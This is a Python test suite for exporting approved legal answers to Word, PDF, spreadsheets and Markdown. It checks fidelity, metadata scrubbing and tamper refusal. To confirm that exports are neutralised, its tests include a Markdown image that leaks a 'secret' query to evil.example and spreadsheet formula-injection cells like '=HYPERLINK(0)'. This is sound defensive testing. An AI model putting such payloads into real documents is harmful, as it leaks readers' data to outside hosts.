"""Exports of one answer: what a reader sees is what was approved, and nothing else goes along."""

from __future__ import annotations

import csv
import datetime as dt
import io
import itertools
import json
import re
import shutil
import subprocess
import zipfile

import docx  # noqa: TID251
import msgspec
import openpyxl
import pypdf
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from protocol.answers import (
    Answer,
    Citation,
    Claim,
    Decision,
    Finding,
    ItemKind,
    Provenance,
    ReviewState,
    SentenceClass,
    Table,
    Timings,
    Verdict,
)
from protocol.errors import BadRequest, Conflict, Internal
from protocol.ids import JobId, MatterId, UserName
from protocol.record import Coverage, Unread
from protocol.spans import SourceSpan
from worker import export
from worker.export import certificate, fonts, markdown, reading, reopened, sheets, word
from worker.export.visible import visible
from worker.review import text_sha256

AT = dt.datetime(2026, 3, 4, 5, 6, 7, tzinfo=dt.UTC)
TEXT = "She said “The second time, yes.” Repairs cost $900.\n\nNorthgate surely knew."


def place(title="Reeves Dep", pin="Reeves Dep 2:3 (NG-000213)"):
    return Citation(
        document="D-1",
        title=title,
        span=SourceSpan(document="D-1", start=0, end=10, page=2),
        line_begin=3,
        line_end=3,
        end_page=2,
        pin_cite=pin,
        bates="NG-000213",
        words="The second time, yes.",
    )


def item(number, words, verdict, text=TEXT, **more):
    start = text.index(words)
    values = {"kind": ItemKind.QUOTE, "reason": "because", "places": (place(),)} | more
    return Finding(number=number, start=start, end=start + len(words), verdict=verdict, **values)


def make_answer(text=TEXT, items=None, *, approved=True, table=None, **more):
    if items is None:
        items = (
            item(1, "The second time, yes.", Verdict.VERIFIED),
            item(2, "$900", Verdict.NOT_FOUND, kind=ItemKind.AMOUNT, places=()),
            item(
                3,
                "Northgate surely knew.",
                Verdict.CHECK,
                kind=ItemKind.STATEMENT,
                diff='record "not" / reply nothing',
            ),
        )
    starts = [text.index("She said"), text.index("Northgate")] if text == TEXT else []
    claims = tuple(
        Claim(start=a, end=b, sentence_class=SentenceClass.UNSUPPORTED)
        for a, b in zip(starts, [51, len(text)], strict=False)
    )
    sha = text_sha256(text)
    decision = Decision(state=ReviewState.APPROVED, by=UserName("alder"), at=AT, answer_sha256=sha)
    values = {
        "job": JobId("J-1M8N90ASR-37YC"),
        "matter": MatterId("M-7F3K"),
        "kind": "ask",
        "question": "When?",
        "text": text,
        "items": items,
        "sentences": claims,
        "coverage": Coverage(
            documents=3,
            documents_read=3,
            pages=9,
            pages_read=8,
            unread=(Unread(document=None, name="scan.pdf", pages="3", reason="no text"),),
        ),
        "timings": Timings(),
        "provenance": Provenance(checker_version="verify-1"),
        "text_sha256": sha,
        "review": ReviewState.APPROVED if approved else ReviewState.AWAITING,
        "decision": decision if approved else None,
        "table": table,
    }
    return Answer(**(values | more))


def part(content, name):
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        return package.read(name).decode()


def text_of(document):
    return "\n".join(p.text for p in document.paragraphs if p.style.name == word.TEXT_STYLE)


# --- Word ---


def test_a_word_file_holds_the_text_its_footnotes_and_its_comments():
    content = word.render(make_answer(), "Hartwell v. Northgate")
    document = docx.Document(io.BytesIO(content))
    assert text_of(document) == TEXT
    notes = part(content, "word/footnotes.xml")
    assert "✔ VERIFIED. Reeves Dep 2:3 (NG-000213). because." in notes
    assert notes.count("<w:footnote ") == 5  # two separators and three marks
    body = part(content, "word/document.xml")
    assert body.count("<w:footnoteReference ") == 3
    said = [comment.text for comment in document.comments]
    assert len(said) == 2
    assert said[0].startswith("✘ NOT FOUND")
    assert "because" in said[1]
    assert reopened.problems(content, make_answer()) == []


def test_a_comment_stands_on_its_whole_sentence():
    body = part(word.render(make_answer(), "T"), "word/document.xml")
    inside = body[body.index('<w:commentRangeStart w:id="1"') :]
    inside = inside[: inside.index('<w:commentRangeEnd w:id="1"')]
    assert "Northgate surely knew." in inside
    assert "Repairs" not in inside


def test_the_header_says_draft_until_somebody_approved_exactly_this_text():
    def header(answer):
        content = word.render(answer, "T")
        return docx.Document(io.BytesIO(content)).sections[0].header.paragraphs[0].text

    assert "released by alder" in header(make_answer())
    assert reading.DRAFT in header(make_answer(approved=False))
    approved = make_answer()
    changed = msgspec.structs.replace(approved, text=TEXT + " Added.")
    assert reading.DRAFT in header(changed)
    returned = msgspec.structs.replace(approved, review=ReviewState.RETURNED)
    assert reading.DRAFT in header(returned)


def test_two_exports_are_the_same_bytes_and_name_nobody():
    first = word.render(make_answer(), "T")
    assert first == word.render(make_answer(), "T")
    properties = docx.Document(io.BytesIO(first)).core_properties
    assert (properties.author, properties.last_modified_by, properties.comments) == ("", "", "")
    assert properties.created.year == 2026
    with zipfile.ZipFile(io.BytesIO(first)) as package:
        assert not [name for name in package.namelist() if "customXml" in name or "thumb" in name]


def test_tables_of_rows_documents_and_authorities():
    text = "See Mata v. Avianca, 678 F. Supp. 3d 443."
    items = (
        item(
            1, "678 F. Supp. 3d 443", Verdict.CHECK, text, kind=ItemKind.AUTHORITY_CITE, places=()
        ),
        item(2, "See", Verdict.VERIFIED, text),
    )
    table = Table(columns=("date", "event"), rows=(("5 May 2022", "signed"),), items=(1,))
    answer = make_answer(text, items, table=table)
    tables = docx.Document(io.BytesIO(word.render(answer, "T"))).tables
    cells = [[cell.text for cell in row.cells] for one in tables for row in one.rows]
    assert ["5 May 2022", "signed"] in cells
    assert ["Reeves Dep", "NG-000213", "2"] in cells
    assert ["678 F. Supp. 3d 443", "CHECK"] in cells


@pytest.mark.parametrize(
    ("old", "new", "said"),
    [
        ("<w:r><w:t>Northgate", "<w:r><w:rPr><w:vanish/></w:rPr><w:t>Northgate", "hidden"),
        ("surely knew", "hardly knew", "another text"),
        ("<w:r><w:t>Northgate", '<w:ins w:id="9"/><w:r><w:t>Northgate', "tracked changes"),
        (
            "<w:r><w:t>Northgate",
            '<w:r><w:rPr><w:highlight w:val="black"/></w:rPr><w:t>Northgate',
            "a black bar",
        ),
    ],
)
def test_a_file_that_came_out_wrong_is_refused(old, new, said):
    content = word.render(make_answer(), "T")
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as package,
        zipfile.ZipFile(out, "w") as spoiled,
    ):
        for name in package.namelist():
            body = package.read(name)
            if name == "word/document.xml":
                assert old.encode() in body
                body = body.replace(old.encode(), new.encode())
            spoiled.writestr(name, body)
    assert any(said in one for one in reopened.problems(out.getvalue(), make_answer()))
    with pytest.raises(Internal) as refused:
        reopened.refuse_if_wrong(out.getvalue(), make_answer())
    assert "Northgate" not in str(refused.value)


@settings(max_examples=20, deadline=None)
@given(st.text(min_size=1, max_size=60))
def test_any_text_comes_through_word_as_it_is_shown(text):
    stripped = text.strip()
    items = ()
    if stripped:
        at = text.index(stripped)
        items = (
            Finding(
                number=1,
                start=at,
                end=at + len(stripped),
                kind=ItemKind.QUOTE,
                verdict=Verdict.CHECK,
                reason=text,
            ),
        )
    answer = make_answer(text, items)
    content = word.render(answer, text)
    assert reopened.problems(content, answer) == []


# --- the one-page report ---


def test_the_report_is_one_page_with_what_a_partner_signs():
    content = certificate.render(make_answer(), "Hartwell v. Northgate")
    (page,) = pypdf.PdfReader(io.BytesIO(content)).pages
    text = " ".join(page.extract_text().split())
    for said in (
        "Hartwell v. Northgate",
        "alder",
        "1 verified · 1 to look at · 1 failing",
        "Read 3 of 3 documents, 8 of 9 pages.",
        "not read: scan.pdf, page 3: no text",
        "NOT FOUND",
        "Reviewed by (name, signature)",
        "verify-1",
    ):
        assert said in text
    assert content == certificate.render(make_answer(), "Hartwell v. Northgate")
    metadata = pypdf.PdfReader(io.BytesIO(content)).metadata
    assert not metadata.author


def test_many_open_items_stay_one_page_and_are_counted():
    text = " ".join(f"item{n:03}" for n in range(200))
    items = tuple(
        item(n + 1, f"item{n:03}", Verdict.NOT_FOUND, text, reason="long " * 60) for n in range(200)
    )
    content = certificate.render(make_answer(text, items), "어느 사건의 긴 이름 " * 20)
    (page,) = pypdf.PdfReader(io.BytesIO(content)).pages
    assert "further items stand in the Word file" in " ".join(page.extract_text().split())


# --- sheets ---


def test_no_cell_of_a_sheet_is_a_formula():
    rows = (("=HYPERLINK(0)", "+1", "-2", "@x", "plain"),)
    answer = make_answer(table=Table(columns=("a", "b", "c", "d", "e"), rows=rows))
    read = list(csv.reader(io.StringIO(sheets.render_csv(answer, "").decode("utf-8-sig"))))
    assert read[1] == ["'=HYPERLINK(0)", "'+1", "'-2", "'@x", "plain"]
    content = sheets.render_xlsx(answer, "")
    book = openpyxl.load_workbook(io.BytesIO(content))
    assert [cell.data_type for cell in book["Table"][2]] == ["s"] * 5
    assert content == sheets.render_xlsx(answer, "")
    assert any("not read: scan.pdf" in str(cell.value) for (cell,) in book["About"].iter_rows())


def test_a_reply_without_a_table_has_no_sheet(tmp_path):
    with pytest.raises(BadRequest, match="no table"):
        export.prepare(make_answer(), title="T", folder=tmp_path, form="xlsx")
    assert list(tmp_path.iterdir()) == []


# --- what the reviewer said ---


def test_the_reviewers_reasons_stand_on_the_report_and_in_the_comments():
    answer = make_answer()
    item = next(one for one in answer.items if one.verdict is not Verdict.VERIFIED)
    reason = "원본과 대조함 (compared with the scan)"
    decision = msgspec.structs.replace(answer.decision, acknowledged={item.number: reason})
    answer = msgspec.structs.replace(answer, decision=decision)
    page = pypdf.PdfReader(io.BytesIO(certificate.render(answer, "T"))).pages[0]
    assert "compared with the scan" in page.extract_text()
    comments = docx.Document(io.BytesIO(word.render(answer, "T"))).comments
    assert any(reason in comment.text for comment in comments)
    withdrawn = msgspec.structs.replace(answer, decision=None, review=ReviewState.AWAITING)
    assert reading.reason(withdrawn, item) == ""


def test_the_report_lists_the_verified_items_with_their_places_after_the_others():
    page = pypdf.PdfReader(io.BytesIO(certificate.render(make_answer(), "T"))).pages[0]
    others, verified = page.extract_text().split("Verified items")
    assert "$900" in others
    assert "VERIFIED. Reeves Dep 2:3 (NG-000213)" in verified


def test_a_reply_without_items_is_not_called_verified():
    page = pypdf.PdfReader(io.BytesIO(certificate.render(make_answer(items=()), "T"))).pages[0]
    assert "nothing that was checked" in page.extract_text()
    assert "verified." not in page.extract_text()


@pytest.mark.skipif(not fonts.installed(), reason="needs a free Korean font (fonts-nanum)")
def test_hangul_on_the_report_brings_its_font_along():
    content = certificate.render(make_answer(), "하트웰 대 노스게이트")
    reader = pypdf.PdfReader(io.BytesIO(content))
    assert "하트웰" in "".join(reader.pages[0].extract_text().split())
    assert b"/FontFile2" in content
    assert content == certificate.render(make_answer(), "하트웰 대 노스게이트")


def test_hangul_is_named_where_the_box_has_no_font_for_it(monkeypatch):
    monkeypatch.setattr(fonts, "installed", lambda: ())
    fonts.korean.cache_clear()
    try:
        content = certificate.render(make_answer(), "하트웰 대 노스게이트")
    finally:
        fonts.korean.cache_clear()
    text = pypdf.PdfReader(io.BytesIO(content)).pages[0].extract_text()
    assert "하트웰" in "".join(text.split())


def test_a_footnote_behind_a_comment_belongs_to_it():
    """LibreOffice 7.4 prints other notes' words where one stands right behind a comment's end."""
    with zipfile.ZipFile(io.BytesIO(word.render(make_answer(), "T"))) as package:
        body = package.read("word/document.xml").decode()
    parts = re.findall(r"<w:(commentReference|footnoteReference|t)[ >]", body)
    assert ("commentReference", "footnoteReference") not in set(itertools.pairwise(parts))
    assert {"commentReference", "footnoteReference"} <= set(parts)


# --- Markdown, and writing ---


def test_nothing_in_markdown_is_live():
    text = "Look ![x](http://evil.example/?q=secret) and <img src=x> and [a](http://b.example)."
    written = markdown.render(make_answer(text, ()), "T").decode()
    assert "![" not in written.replace("\\!\\[", "")
    assert "\\<img" in written
    assert "http://" not in written


def test_only_a_live_approval_is_written(tmp_path):
    for form in export.FORMS:
        with pytest.raises(Conflict):
            export.prepare(make_answer(approved=False), title="T", folder=tmp_path, form=form)
    edited = msgspec.structs.replace(make_answer(), text="Another text.")
    with pytest.raises(Conflict):
        export.prepare(edited, title="T", folder=tmp_path, form="docx")
    assert list(tmp_path.iterdir()) == []


def test_every_form_is_written_under_a_name_of_ids(tmp_path):
    table = Table(columns=("a",), rows=(("b",),))
    for form in export.FORMS:
        made = export.prepare(make_answer(table=table), title="T", folder=tmp_path, form=form)
        assert not (tmp_path / made.name).exists()  # nobody can fetch it yet
        made.publish()
        assert made.name == f"J-1M8N90ASR-37YC-ask.{form}"
        assert (tmp_path / made.name).stat().st_size == made.size_bytes
    assert json.loads((tmp_path / "J-1M8N90ASR-37YC-ask.json").read_text())["text"] == TEXT


@given(st.text(max_size=40))
def test_what_is_made_visible_stays_as_it_is(text):
    once = visible(text)
    assert visible(once) == once
    assert "\u202e" not in once
    assert "\u200b" not in once


@pytest.mark.slow
def test_libreoffice_opens_the_word_file(tmp_path):
    office = shutil.which("soffice")
    if office is None:
        pytest.skip("LibreOffice is not installed (libreoffice-writer-nogui)")
    (tmp_path / "reply.docx").write_bytes(word.render(make_answer(), "Hartwell v. Northgate"))
    subprocess.run(
        [
            office,
            "--headless",
            f"-env:UserInstallation=file://{tmp_path}/profile",
            "--convert-to",
            "pdf",
            "--outdir",
            str(tmp_path),
            str(tmp_path / "reply.docx"),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    pages = pypdf.PdfReader(tmp_path / "reply.pdf").pages
    text = " ".join(" ".join(page.extract_text().split()) for page in pages)
    for said in ("released by alder", "The second time, yes.", "VERIFIED. Reeves Dep 2:3"):
        assert said in text
